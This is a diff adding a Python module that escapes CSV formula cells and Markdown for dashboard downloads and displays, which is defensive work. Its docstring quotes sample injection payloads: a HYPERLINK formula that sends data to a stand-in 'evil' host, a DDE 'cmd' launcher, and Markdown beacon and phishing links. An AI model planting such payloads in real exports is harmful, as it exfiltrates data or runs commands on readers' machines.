@@ -1,0 +1,54 @@
+"""What the dashboards hand to a viewer's spreadsheet: CSV downloads whose text cells cannot run as
+formulas (issue 18, docs/SECURITY.md).
+
+A cell such as `=HYPERLINK("http://evil/?"&A1, "click")`, `+cmd|' /C calc'!A0` or `@SUM(A1:A9)`
+comes from the exports (an account or deal name) and Excel, LibreOffice and Sheets would evaluate
+it on opening the download. Text cells starting with = + - @, a tab or a carriage return get a
+leading apostrophe, which spreadsheets show as text (OWASP's advice); numbers are left alone.
+"""
+
+from __future__ import annotations
+
+import re
+
+import polars as pl
+
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(df: pl.DataFrame) -> pl.DataFrame:
+    """Text columns with formula-like cells prefixed by an apostrophe."""
+    pattern = "^[" + "".join("\\" + c if c in "-+" else c for c in FORMULA_PREFIXES) + "]"
+    return df.with_columns(
+        pl.when(pl.col(c).str.contains(pattern)).then(pl.lit("'") + pl.col(c)).otherwise(pl.col(c)).alias(c)
+        for c, dtype in df.schema.items() if dtype == pl.String)
+
+
+def csv_bytes(df: pl.DataFrame) -> bytes:
+    """The frame as a CSV download, formula cells neutralised."""
+    return neutralise(df).write_csv().encode()
+
+
+# Data shown through Streamlit's Markdown (st.markdown, st.info, st.warning, st.subheader):
+# an account named "![x](http://host/beacon.png)" or a ?deal= link "[verify](http://phish)"
+# would render an image or a link. Data goes in as text: every ASCII punctuation character is
+# backslash-escaped (CommonMark renders it literally; this also defuses $math$ and Streamlit's
+# :color[...] / :material/...: directives), or as a code span. GFM turns bare URLs and e-mail
+# addresses into links after escapes are resolved, so a zero-width space goes between "http" and
+# "://", "www" and ".", and before "@" (invisible; measured in Chromium: no link is rendered).
+_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")
+_AUTOLINK = re.compile(r"(?i)(https?|ftp|mailto|www)(?=\\[:.])|(?=\\@)")
+ZWSP = "\u200b"
+
+
+def md(value) -> str:
+    """Any value as literal text inside Markdown (one line): no link, image, heading or directive."""
+    text = " ".join(str(value).split()) if value is not None else ""
+    return _AUTOLINK.sub(lambda m: (m.group(1) or "") + ZWSP, _PUNCTUATION.sub(r"\\\1", text))
+
+
+def code(value) -> str:
+    """Any value as a Markdown code span (literal, monospace), whatever backticks it holds."""
+    text = " ".join(str(value).split()) if value is not None else ""
+    fence = "`" * (max((len(run) for run in re.findall(r"`+", text)), default=0) + 1)
+    return f"{fence} {text} {fence}"
